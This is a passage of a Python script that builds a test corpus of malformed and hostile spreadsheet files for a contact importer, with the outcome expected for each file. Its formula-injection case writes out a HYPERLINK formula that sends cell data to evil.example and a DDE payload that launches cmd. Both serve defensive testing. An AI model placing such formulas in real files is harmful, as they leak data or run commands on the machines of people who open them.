"""Generate the hostile-input corpus: bad and strange files, and what the importer must do with each.

    .venv/bin/python tests/data/make_corpus.py [--out DIR]

Writes every case into tests/data/corpus/ (or DIR) beside manifest.json, which tells, for each file, what
`importer validate FILE -a sample_data/account.toml` must do: exit 2 with one stderr line holding a given
substring (a file-level problem: nothing may be sent), or exit 0/1 with given counts per status, and where it
matters given identifiers, errors and cells per row. tests/e2e/test_corpus.py checks the importer against it.

Deterministic: every random byte comes from random.Random seeded with the case name, zip timestamps and
document dates are pinned and the encryption's salts are seeded, so two runs give the same files (for the same
openpyxl, xlwt and msoffcrypto versions) and always the same manifest. The generated files are committed:
tests never depend on running this script, they only regenerate into a temp dir to prove it is kept in step.

A case whose expectation is what a correct importer does but today's importer does not carries `known_bug`
(the test marks it xfail, strictly: fixing the bug turns the test red until the marker is removed here).
"""

from __future__ import annotations

import argparse
import codecs
import contextlib
import datetime as dt
import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.styles import Font

HERE = Path(__file__).resolve().parent
OUT = HERE / "corpus"
SEED = 20251125
FIXED_TIME = dt.datetime(2025, 3, 1)
NOTE_LIMIT = (
    1000  # importer.validation.validator.NOTE_LIMIT; repeated here so the corpus does not import the code under test
)

Expect = dict[str, Any]
Builder = Callable[[Path, random.Random], Expect]
CASES: list[tuple[str, Builder]] = []


def case(name: str) -> Callable[[Builder], Builder]:
    """Register a builder: it writes `name` into the output dir and returns the case's expectations."""

    def register(build: Builder) -> Builder:
        CASES.append((name, build))
        return build

    return register


# --- phones and small helpers -----------------------------------------------------------------------------


def es(n: int) -> tuple[str, str]:
    """A valid Spanish mobile, spelled as people type it, and the identifier it must become."""
    national = 600100000 + n
    text = str(national)
    return f"+34 {text[:3]} {text[3:5]} {text[5:7]} {text[7:]}", f"34{national}"


def csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    """Rows as Excel writes CSV: a cell is quoted only when it must be."""

    def cell(value: str) -> str:
        if any(c in value for c in (delimiter, '"', "\r", "\n")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(delimiter.join(cell(v) for v in row) + newline for row in rows)


def people(count: int, first: int = 0) -> list[tuple[str, str, str]]:
    """`count` (name, phone spelling, identifier) triples with distinct phones."""
    names = ["Ana García", "Luis Pérez", "Marta Núñez", "John Smith", "Sofía Ruiz", "Pierre Martin", "Chloé Durand"]
    return [(names[(first + i) % len(names)], *es(first + i)) for i in range(count)]


def valid_rows(start_row: int, identifiers: list[str]) -> dict[str, Expect]:
    return {str(start_row + i): {"status": "valid", "identifier": ident} for i, ident in enumerate(identifiers)}


def accepted(what: str, counts: dict[str, int], rows: dict[str, Expect] | None = None, **extra: Any) -> Expect:
    exit_code = 0 if set(counts) <= {"valid"} else 1
    return {"what": what, "exit": exit_code, "counts": counts, "rows": rows or {}, **extra}


def refused(what: str, stderr: str) -> Expect:
    return {"what": what, "exit": 2, "stderr": stderr}


# --- workbooks, byte-stable ---------------------------------------------------------------------------------


def workbook_bytes(
    sheets: dict[str, list[list[Any]]], edit: Callable[[openpyxl.Workbook], None] | None = None
) -> bytes:
    """An xlsx from openpyxl with pinned dates; `edit` may style, merge or hide before saving."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    if edit is not None:
        edit(book)
    book.properties.creator = "make_corpus.py"
    book.properties.created = FIXED_TIME
    buffer = io.BytesIO()
    book.save(buffer)
    return pin_zip(buffer.getvalue())


def pin_zip(data: bytes, replace: dict[str, bytes] | None = None) -> bytes:
    """Rewrite a zip with fixed timestamps (and openpyxl's "modified" date), optionally replacing members."""
    stamp = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = (replace or {}).get(info.filename, src.read(info.filename))
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)", rb"\g<1>" + stamp + rb"\2", content
                )
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME.timetuple()[:6]), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def sheet_xml(rows: str) -> bytes:
    """A worksheet part written by hand: for what openpyxl cannot write (formulas with saved values)."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


class _FixedClock(dt.datetime):
    @classmethod
    def now(cls, tz: dt.tzinfo | None = None) -> _FixedClock:
        return cls(*FIXED_TIME.timetuple()[:6])


@contextlib.contextmanager
def seeded_encryption(rng: random.Random) -> Iterator[None]:
    """msoffcrypto draws salts and the key from `secrets` and stamps the OLE directory with the clock: draw them
    from `rng` and FIXED_TIME instead, so the encrypted file is byte-identical from run to run."""
    from msoffcrypto.method import ecma376_agile
    from msoffcrypto.method.container import ecma376_encrypted

    saved = ecma376_agile._random_buffer, ecma376_encrypted.datetime
    ecma376_agile._random_buffer = rng.randbytes
    ecma376_encrypted.datetime = _FixedClock
    try:
        yield
    finally:
        ecma376_agile._random_buffer, ecma376_encrypted.datetime = saved


def ods_rows(rows: list[list[str]]) -> str:
    """Table rows for ods_bytes; cells are "type:value"."""

    def cell(spec: str) -> str:
        kind, _, value = spec.partition(":")
        extra = f' office:value="{value}"' if kind == "float" else ""
        return f'<table:table-cell office:value-type="{kind}"{extra}><text:p>{value}</text:p></table:table-cell>'

    return "".join("<table:table-row>" + "".join(map(cell, row)) + "</table:table-row>" for row in rows)


def ods_bytes(body: str) -> bytes:
    """A minimal OpenDocument spreadsheet as LibreOffice saves one, around the table rows in `body`."""
    ns = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="Hoja1">{body}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        stamp = FIXED_TIME.timetuple()[:6]
        # "mimetype" first and stored, as the format requires.
        archive.writestr(zipfile.ZipInfo("mimetype", stamp), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(zipfile.ZipInfo("content.xml", stamp), content, zipfile.ZIP_DEFLATED)
        archive.writestr(zipfile.ZipInfo("META-INF/manifest.xml", stamp), manifest, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def contacts_sheet(count: int, first: int = 0) -> tuple[list[list[Any]], list[str]]:
    crowd = people(count, first)
    return [["Name", "Phone"], *[[name, phone] for name, phone, _ in crowd]], [ident for _, _, ident in crowd]


# --- refused: not a spreadsheet, or a damaged one ---------------------------------------------------------


@case("empty.csv")
def _empty_csv(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(b"")
    return refused("a 0-byte file", "the file is empty")


@case("empty.xlsx")
def _empty_xlsx(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(b"")
    return refused("a 0-byte file named .xlsx", "the file is empty")


@case("blank_lines_only.csv")
def _blank_lines(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(b"\r\n\r\n   \r\n,,,\r\n\t\r\n")
    return refused("only blank lines and empty cells: no header", "no header row")


@case("random_bytes.csv")
def _random_csv(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(b"\x00\x9c" + rng.randbytes(8190))  # the first bytes are no magic number nor BOM
    return refused("8 KiB of random bytes named .csv", "binary data")


@case("random_bytes.xlsx")
def _random_xlsx(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(b"\x00\x9c" + rng.randbytes(8190))
    return refused("8 KiB of random bytes named .xlsx", "binary data")


@case("truncated.xlsx")
def _truncated(path: Path, rng: random.Random) -> Expect:
    rows, _ = contacts_sheet(300)
    data = workbook_bytes({"Contacts": rows})
    path.write_bytes(data[: len(data) * 3 // 5])  # a download cut short: the zip's central directory is gone
    return refused("an xlsx cut at 60% of its bytes", "damaged or incomplete zip archive")


@case("corrupt_sheet.xlsx")
def _corrupt_sheet(path: Path, rng: random.Random) -> Expect:
    rows, _ = contacts_sheet(3)
    data = workbook_bytes({"Contacts": rows})
    path.write_bytes(pin_zip(data, {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row r='1'><c r='A1'"}))
    return refused("a well-formed zip whose sheet XML is cut off", "not a readable spreadsheet")


@case("encrypted.xlsx")
def _encrypted(path: Path, rng: random.Random) -> Expect:
    from msoffcrypto.format.ooxml import OOXMLFile

    rows, _ = contacts_sheet(3)
    plain = io.BytesIO(workbook_bytes({"Contacts": rows}))
    target = io.BytesIO()
    with seeded_encryption(rng):
        OOXMLFile(plain).encrypt("secret", target)
    path.write_bytes(target.getvalue())
    return refused("an xlsx with a password to open (Excel's agile encryption)", "password-protected")


@case("zip_not_workbook.xlsx")
def _zip_not_workbook(path: Path, rng: random.Random) -> Expect:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("contacts.csv", FIXED_TIME.timetuple()[:6]), "Name,Phone\r\nAna,+34600100000\r\n"
        )
    path.write_bytes(out.getvalue())
    return refused("a zip holding a CSV, named .xlsx", "zip archive without a workbook")


@case("html_export.xls")
def _html(path: Path, rng: random.Random) -> Expect:
    path.write_text(
        "<!DOCTYPE html>\n<html><body><table><tr><td>Name</td><td>Phone</td></tr>"
        "<tr><td>Ana</td><td>+34 600 10 00 00</td></tr></table></body></html>\n",
        encoding="utf-8",
    )
    return refused("a web app's 'Export to Excel': an HTML table named .xls", "HTML page")


@case("excel_2003_xml.xls")
def _xml_2003(path: Path, rng: random.Random) -> Expect:
    path.write_text(
        '<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        '<Worksheet ss:Name="Contacts"><Table><Row><Cell><Data ss:Type="String">Name</Data></Cell></Row>'
        "</Table></Worksheet></Workbook>\n",
        encoding="utf-8",
    )
    return refused("Excel 2003 XML Spreadsheet named .xls", "XML file")


@case("empty_workbook.xlsx")
def _empty_workbook(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(workbook_bytes({"Sheet1": [], "Sheet2": []}))
    return refused("a valid xlsx whose two sheets have no cells", "no data in any sheet")


@case("stray_cell_far_away.xlsx")
def _stray_cell(path: Path, rng: random.Random) -> Expect:
    rows, _ = contacts_sheet(3)

    def stray(book: openpyxl.Workbook) -> None:
        book["Contacts"]["XFD1048576"] = "x"  # a key pressed at the sheet's last cell (Ctrl+End, then typing)

    path.write_bytes(workbook_bytes({"Contacts": rows}, stray))
    # python-calamine allocates every cell of the sheet's rectangle: 17 billion cells, 512 GiB, then aborts.
    return refused("3 contacts and one stray value at XFD1048576, the sheet's last cell", "stray cell")


@case("stray_cell_far_away.ods")
def _stray_cell_ods(path: Path, rng: random.Random) -> Expect:
    body = ods_rows([["string:Name", "string:Phone"], ["string:Ana", "string:+34 600 10 00 00"]])
    # LibreOffice writes empty space as repeated rows and cells: 1,048,570 empty rows, then a value at XFD.
    body += '<table:table-row table:number-rows-repeated="1048570"><table:table-cell/></table:table-row>'
    body += '<table:table-row><table:table-cell table:number-columns-repeated="16383"/>'
    body += '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    path.write_bytes(ods_bytes(body))
    # python-calamine's ODS reader has a cell limit of its own (100M): a clean error, not an abort.
    return refused("an .ods with a stray value at XFD1048576", "Cell limit exceeded")


# --- refused: readable, but not an import ------------------------------------------------------------------


@case("no_phone_column.csv")
def _no_phone(path: Path, rng: random.Random) -> Expect:
    path.write_text(csv_text([["Name", "Email"], ["Ana García", "ana@example.com"]]), encoding="utf-8")
    return refused("names and emails, no phone column", "no phone column")


@case("no_name_column.csv")
def _no_name(path: Path, rng: random.Random) -> Expect:
    path.write_text(csv_text([["Phone", "City"], [es(0)[0], "Madrid"]]), encoding="utf-8")
    return refused("phones, no name column", "no name column")


# --- refused: damage found while reading the rows (rows before it were fine: still nothing is sent) --------


@case("unclosed_quote.csv")
def _unclosed_quote(path: Path, rng: random.Random) -> Expect:
    crowd = people(6)
    rows = [[n, p, "called twice"] for n, p, _ in crowd]
    lines = csv_text([["Name", "Phone", "Note"]] + rows).splitlines(keepends=True)
    # Row 3's note opens a quote that is never closed: the csv module swallows rows 4-7 into that note, a
    # short note that is valid, so the file would import as 2 contacts and lose 4 without a word.
    lines[2] = lines[2].replace("called twice", '"never closed, see below')
    path.write_text("".join(lines), encoding="utf-8", newline="")
    return refused("row 3's note opens a quote never closed: the rows below would vanish into it", "never closed")


@case("mixed_encodings.csv")
def _mixed_encodings(path: Path, rng: random.Random) -> Expect:
    crowd = people(4)
    head = csv_text([["Name", "Phone"]] + [[n, p] for n, p, _ in crowd[:3]]).encode("utf-8")
    tail = csv_text([["Íñigo Peña", crowd[3][1]]]).encode("cp1252")  # one row pasted from a cp1252 file
    path.write_bytes(head + tail)
    # Read as cp1252, every UTF-8 accent above would silently become mojibake ("GarcÃ­a"): refuse instead.
    return refused("UTF-8 rows with accents, then one row in cp1252", "row 5: bytes that are not valid utf-8")


@case("late_encoding_error.csv")
def _late_encoding(path: Path, rng: random.Random) -> Expect:
    rows = [["Name", "Phone", "Note"]]
    rows += [
        [f"José {i}", es(i)[0], "cliente desde 2019, prefiere WhatsApp por la tarde; no llamar antes de las 10h"]
        for i in range(3200)
    ]
    good = csv_text(rows).encode("utf-8")
    assert len(good) > 256 * 1024, "the bad row must lie past the bytes sniffed for the encoding"
    path.write_bytes(good + csv_text([["María", es(3200)[0], "ok"]]).encode("cp1252"))
    # Past the 256 KiB sniffed for the encoding: detection says UTF-8, the bad row is met while reading.
    return refused(
        "3,200 good UTF-8 rows (340 KiB, past the 256 KiB sniffed), then row 3202 in cp1252",
        "row 3202: bytes that are not valid",
    )


@case("utf16_odd_length.csv")
def _utf16_odd(path: Path, rng: random.Random) -> Expect:
    text = csv_text([["Name", "Phone"]] + [[n, p] for n, p, _ in people(3)], delimiter="\t")
    path.write_bytes(text.encode("utf-16") + b"A")  # Excel "Unicode Text" cut one byte into a character
    return refused("UTF-16 (BOM) text cut in the middle of a character", "not valid utf-16 text")


# --- accepted: shapes of file ------------------------------------------------------------------------------


@case("header_only.csv")
def _header_only(path: Path, rng: random.Random) -> Expect:
    path.write_text("Name,Phone\r\n", encoding="utf-8", newline="")
    return accepted("a header and no rows: nothing to do, nothing wrong", {}, stdout=["no rows"])


@case("header_only.xlsx")
def _header_only_xlsx(path: Path, rng: random.Random) -> Expect:
    path.write_bytes(workbook_bytes({"Contacts": [["Name", "Phone"]]}))
    return accepted("an xlsx with a header and no rows", {}, stdout=["no rows"])


@case("workbook_named.csv")
def _workbook_named_csv(path: Path, rng: random.Random) -> Expect:
    rows, idents = contacts_sheet(3)
    path.write_bytes(workbook_bytes({"Contacts": rows}))
    return accepted(
        "an xlsx saved with a .csv name: read as a workbook",
        {"valid": 3},
        valid_rows(2, idents),
        stdout=["the file is named .csv but is a workbook"],
    )


@case("csv_text_named.xlsx")
def _csv_named_xlsx(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    path.write_text(csv_text([["Name", "Phone"]] + [[n, p] for n, p, _ in crowd], ";"), encoding="utf-8")
    return accepted(
        "CSV text (;) saved with an .xlsx name: read as CSV",
        {"valid": 3},
        valid_rows(2, [i for _, _, i in crowd]),
        stdout=["the file is named .xlsx but holds CSV text"],
    )


@case("duplicated_headers.csv")
def _duplicated_headers(path: Path, rng: random.Random) -> Expect:
    crowd = people(4)
    rows = [["Name", "Phone", "Phone", "Name"]]
    rows += [[crowd[0][0], crowd[0][1], es(50)[0], "Other"], [crowd[1][0], crowd[1][1], "", ""]]
    rows += [[crowd[2][0], "", crowd[2][1], ""]]  # the number only in the second "Phone": read (Invoice Ninja)
    rows += [["", crowd[3][1], "", "Solo"]]  # the name only in the second "Name": read too
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "Name and Phone twice: both are read, the first non-empty cell of a row wins",
        {"valid": 4},
        {
            "2": {"status": "valid", "identifier": crowd[0][2]},
            "3": {"status": "valid", "identifier": crowd[1][2]},
            "4": {"status": "valid", "identifier": crowd[2][2]},
            "5": {"status": "valid", "identifier": crowd[3][2]},
        },
    )


@case("blank_header_cells.csv")
def _blank_headers(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    rows = [["Name", "", "Phone", "", "Note", ""]]  # the trailing blank header is dropped
    rows += [[crowd[0][0], "x", crowd[0][1], "y", "n", ""]]
    rows += [[crowd[1][0], "", crowd[1][1], "", "", ""]]
    rows += [[crowd[2][0], "", crowd[2][1], "", "", "data under no header"]]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "blank header cells: blank columns inside are not imported; a value right of the last header is an error",
        {"valid": 2, "invalid": 1},
        {
            "2": {"status": "valid", "identifier": crowd[0][2]},
            "3": {"status": "valid", "identifier": crowd[1][2]},
            "4": {"status": "invalid", "error": "row has 1 more cell(s) than the header has columns"},
        },
        stdout=["Columns not imported: column 2, column 4"],
    )


@case("ragged_rows.csv")
def _ragged(path: Path, rng: random.Random) -> Expect:
    crowd = people(5)
    text = csv_text([["Name", "Phone", "Note"], [crowd[0][0], crowd[0][1]]])  # one cell short: fine
    text += f"{crowd[1][0]}\r\n"  # two short: no phone
    text += csv_text([[crowd[2][0], crowd[2][1], "note", "extra", "more"]])  # two cells too many
    text += f"Smith, John,{crowd[3][1]},VIP\r\n"  # an unquoted comma in the name shifts every cell right
    text += csv_text([[crowd[4][0], crowd[4][1], "fine"]])
    path.write_text(text, encoding="utf-8", newline="")
    return accepted(
        "rows with fewer and more cells than the header",
        {"valid": 2, "invalid": 3},
        {
            "2": {"status": "valid", "identifier": crowd[0][2]},
            "3": {"status": "invalid", "error": "Phone: phone is required"},
            "4": {"status": "invalid", "error": "row has 2 more cell(s) than the header has columns"},
            "5": {"status": "invalid", "error": "row has 1 more cell(s) than the header has columns"},
            "6": {"status": "valid", "identifier": crowd[4][2]},
        },
    )


@case("nul_bytes.csv")
def _nul(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    lines = csv_text([["Name", "Phone"]] + [[n, p] for n, p, _ in crowd]).split("\r\n")
    lines[1] = lines[1].replace("+34", "+\x0034")  # inside the phone
    lines[3] = lines[3] + "\x00\x00\x00\x00"  # padding at a line's end, as some exporters leave
    path.write_bytes("\r\n".join(lines).encode("utf-8"))
    return accepted(
        "NUL bytes inside a phone and after a row: removed, rows kept",
        {"valid": 3},
        valid_rows(2, [i for _, _, i in crowd]),
        stdout=["NUL bytes removed from 2 rows: 2, 4"],
    )


@case("mixed_line_endings.csv")
def _line_endings(path: Path, rng: random.Random) -> Expect:
    crowd = people(5)
    ends = ["\n", "\r", "\r\n", "\n", ""]  # the last row has no line end at all
    text = "Name,Phone,Note\r\n" + "".join(f"{n},{p},note{end}" for (n, p, _), end in zip(crowd, ends, strict=True))
    path.write_bytes(text.encode("utf-8"))
    return accepted(
        "\\r\\n, \\n and \\r line ends in one file, no final line end",
        {"valid": 5},
        valid_rows(2, [i for _, _, i in crowd]),
    )


@case("quoted_line_break.csv")
def _quoted_line_break(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    rows = [["Name", "Phone", "Note"]] + [[n, p, "ok"] for n, p, _ in crowd]
    rows[2][2] = "line one\nline two"  # Alt+Enter in an Excel cell
    path.write_text(csv_text(rows), encoding="utf-8", newline="")
    return accepted(
        "a note with a line break inside quotes: one row, and the results file keeps it one row",
        {"valid": 3},
        {
            "2": {"status": "valid", "identifier": crowd[0][2]},
            "3": {"status": "valid", "identifier": crowd[1][2], "cells": {"Note": "line one\nline two"}},
            "4": {"status": "valid", "identifier": crowd[2][2]},
        },
    )


@case("one_megabyte_cell.csv")
def _one_mb(path: Path, rng: random.Random) -> Expect:
    crowd = people(2)
    big = ("call after six; " * 65536)[: (1 << 20) - 1] + "."  # no trailing space: cells are trimmed
    path.write_text(
        csv_text([["Name", "Phone", "Note"], [crowd[0][0], crowd[0][1], big], [crowd[1][0], crowd[1][1], "short"]]),
        encoding="utf-8",
    )
    return accepted(
        "a 1 MiB note: read whole, and refused for that row only (the API takes 1,000 characters)",
        {"invalid": 1, "valid": 1},
        {
            "2": {"status": "invalid", "error": f"Note: note is {1 << 20} characters, the limit is {NOTE_LIMIT}"},
            "3": {"status": "valid", "identifier": crowd[1][2]},
        },
    )


def wide_rows(columns: int) -> tuple[list[list[str]], list[str]]:
    crowd = people(3)
    header = ["Name", "Phone"] + [f"Field {c}" for c in range(3, columns + 1)]
    rows = [header] + [[n, p] + [f"v{c}" for c in range(3, columns + 1)] for n, p, _ in crowd]
    return rows, [i for _, _, i in crowd]


@case("thousands_of_columns.csv")
def _wide_csv(path: Path, rng: random.Random) -> Expect:
    rows, idents = wide_rows(3000)
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted("3,000 columns x 3 rows", {"valid": 3}, valid_rows(2, idents))


@case("thousands_of_columns.xlsx")
def _wide_xlsx(path: Path, rng: random.Random) -> Expect:
    rows, idents = wide_rows(3000)
    path.write_bytes(workbook_bytes({"Contacts": rows}))
    return accepted("3,000 columns x 3 rows in a workbook (to column DKL)", {"valid": 3}, valid_rows(2, idents))


@case("utf16le_no_bom.csv")
def _utf16le(path: Path, rng: random.Random) -> Expect:
    crowd = people(3, 1)
    path.write_bytes(csv_text([["Nombre", "Teléfono"]] + [[n, p] for n, p, _ in crowd], "\t").encode("utf-16-le"))
    return accepted(
        "UTF-16 little-endian without a BOM, tab-separated",
        {"valid": 3},
        valid_rows(2, [i for _, _, i in crowd]),
        stdout=["encoding utf-16-le detected"],
    )


@case("utf16be_no_bom.csv")
def _utf16be(path: Path, rng: random.Random) -> Expect:
    crowd = people(3, 4)
    path.write_bytes(csv_text([["Nombre", "Teléfono"]] + [[n, p] for n, p, _ in crowd], ";").encode("utf-16-be"))
    return accepted(
        "UTF-16 big-endian without a BOM, ';'-separated",
        {"valid": 3},
        valid_rows(2, [i for _, _, i in crowd]),
        stdout=["encoding utf-16-be detected"],
    )


@case("utf8_bom_semicolon.csv")
def _utf8_bom(path: Path, rng: random.Random) -> Expect:
    crowd = people(3, 2)
    text = csv_text([["Nombre", "Móvil"]] + [[n, p] for n, p, _ in crowd], ";")
    path.write_bytes(codecs.BOM_UTF8 + text.encode("utf-8"))
    return accepted("Excel's 'CSV UTF-8': a BOM and ';'", {"valid": 3}, valid_rows(2, [i for _, _, i in crowd]))


@case("cp1252.csv")
def _cp1252(path: Path, rng: random.Random) -> Expect:
    crowd = people(3, 1)
    text = csv_text([["Nombre", "Teléfono", "Notas"]] + [[n, p, "llamar mañana €"] for n, p, _ in crowd], ";")
    path.write_bytes(text.encode("cp1252"))
    return accepted(
        "Excel's plain 'CSV' on Windows: cp1252 with accents and €",
        {"valid": 3},
        {str(2 + k): {"status": "valid", "identifier": i, "cells": {"Nombre": n}} for k, (n, _, i) in enumerate(crowd)},
        stdout=["encoding cp1252 detected"],
    )


@case("excel_sep_line.csv")
def _sep_line(path: Path, rng: random.Random) -> Expect:
    crowd = people(2)
    path.write_text("sep=;\r\n" + csv_text([["Name", "Phone"]] + [[n, p] for n, p, _ in crowd], ";"), encoding="utf-8")
    return accepted(
        "Excel's 'sep=;' first line: gives the delimiter; the header stays row 1",
        {"valid": 2},
        valid_rows(2, [i for _, _, i in crowd]),
        stdout=["delimiter ';' from the file's 'sep=' line"],
    )


@case("title_block.csv")
def _title_csv(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    rows = [["Contacts export"], ["Generated 2025-03-01"], [], ["Name", "Phone"], *[[n, p] for n, p, _ in crowd]]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "two title lines and a blank line above the header",
        {"valid": 3},
        valid_rows(5, [i for _, _, i in crowd]),
        stdout=["header on row 4: rows 1, 2 above it ignored"],
    )


@case("formula_injection.csv")
def _injection(path: Path, rng: random.Random) -> Expect:
    crowd = people(4)
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1+1"]
    rows = [["Name", "Phone"]] + [[h, p] for h, (_, p, _) in zip(hostile, crowd, strict=True)]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "names that are spreadsheet formulas: imported as text, written to the results with a leading '",
        {"valid": 4},
        {
            str(2 + k): {
                "status": "valid",
                "identifier": crowd[k][2],
                "cells": {"Name": "'" + h, "Phone": "'" + crowd[k][1]},
            }
            for k, h in enumerate(hostile)
        },
    )


# --- accepted: phones as spreadsheets spell them -----------------------------------------------------------


@case("leading_zero_phones.csv")
def _leading_zero_csv(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["Name", "Phone", "Country"],
        ["Ana", "0034 600 10 00 40", ""],  # 00 = international prefix
        ["Pierre", "0612345678", "FR"],  # national, with the row's country
        ["Harry", "07400 123456", "GB"],
        ["Chloé", "00 33 6 12 34 56 79", ""],
        ["Nobody", "0612345670", ""],  # national, no country and no --default-region: cannot be placed
    ]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "phones with leading zeros (00 prefix, national trunk 0) kept as text",
        {"valid": 4, "invalid": 1},
        {
            "2": {"status": "valid", "identifier": "34600100040"},
            "3": {"status": "valid", "identifier": "33612345678"},
            "4": {"status": "valid", "identifier": "447400123456"},
            "5": {"status": "valid", "identifier": "33612345679"},
            "6": {"status": "invalid", "error": "no country code and no default region"},
        },
    )


@case("leading_zero_phones.xlsx")
def _leading_zero_xlsx(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["Name", "Phone", "Country"],
        ["Ana", "0034600100050", ""],  # a text cell: the zeros are there
        ["Pierre", 612345670, "FR"],  # a number cell: Excel dropped the trunk 0; the country places it
        ["Chloé", 612345671, "FR"],  # a number shown as 0612345671 by a "0000000000" format
        ["Marie", "0612345672", "FR"],
    ]

    def fmt(book: openpyxl.Workbook) -> None:
        book["Contacts"]["B4"].number_format = "0000000000"

    path.write_bytes(workbook_bytes({"Contacts": rows}, fmt))
    return accepted(
        "leading zeros in text cells, and numbers that lost their trunk 0",
        {"valid": 4},
        {
            "2": {"status": "valid", "identifier": "34600100050"},
            "3": {"status": "valid", "identifier": "33612345670"},
            "4": {"status": "valid", "identifier": "33612345671"},
            "5": {"status": "valid", "identifier": "33612345672"},
        },
    )


@case("float_phones.xlsx")
def _float_phones(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["Name", "Phone"],
        ["Ana", 34600100060.0],  # a float cell, as pandas or a CSV import into Excel leaves a phone column
        ["Luis", 34600100061],
        ["Harry", 447400123457.0],
    ]

    def fmt(book: openpyxl.Workbook) -> None:
        book["Contacts"]["B2"].number_format = "0.00E+00"  # shown as 3.46E+10; the cell still holds every digit

    path.write_bytes(workbook_bytes({"Contacts": rows}, fmt))
    return accepted(
        "phones stored as number cells (float and int, one formatted as 3.46E+10): all digits, no .0",
        {"valid": 3},
        {
            "2": {"status": "valid", "identifier": "34600100060", "cells": {"Phone": "34600100060"}},
            "3": {"status": "valid", "identifier": "34600100061"},
            "4": {"status": "valid", "identifier": "447400123457"},
        },
    )


@case("scientific_notation_phones.csv")
def _scientific(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["Name", "Phone", "Country"],
        ["Ana", "3.46E+10", "ES"],
        ["Luis", "3,46001E+10", "ES"],
        ["Eva", "3.46E+10", ""],
    ]
    path.write_text(csv_text(rows, ";"), encoding="utf-8")
    message = "scientific notation"
    return accepted(
        "phones in scientific notation (a CSV saved by Excel from a number column): the digits are gone, "
        "so each row is invalid with a message that says so, never a guessed number",
        {"invalid": 3},
        {str(r): {"status": "invalid", "identifier": "", "error": message} for r in (2, 3, 4)},
    )


@case("float_text_phones.csv")
def _float_text(path: Path, rng: random.Random) -> Expect:
    rows = [["Name", "Phone"], ["Ana", "34600100070.0"], ["Harry", "447400123458.0"]]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
        "phones written as floats in CSV text ('34600100070.0', pandas' to_csv): the .0 is dropped",
        {"valid": 2},
        {"2": {"status": "valid", "identifier": "34600100070"}, "3": {"status": "valid", "identifier": "447400123458"}},
    )


@case("invisible_marks_phones.csv")
def _invisible(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["Name", "Phone"],
        ["Ana", "\u200e+34 600 10 00 90"],  # left-to-right mark: what copying a number from WhatsApp gives
        ["Luis", "\u202a+34 600 10 00 91\u202c"],  # LTR embedding, as Windows' contact apps paste it
        ["Eva", "＋３４ ６００ １０ ００ ９２"],  # full-width digits and plus (a Japanese/Chinese IME)
    ]
    path.write_text(csv_text(rows), encoding="utf-8")
    return accepted(
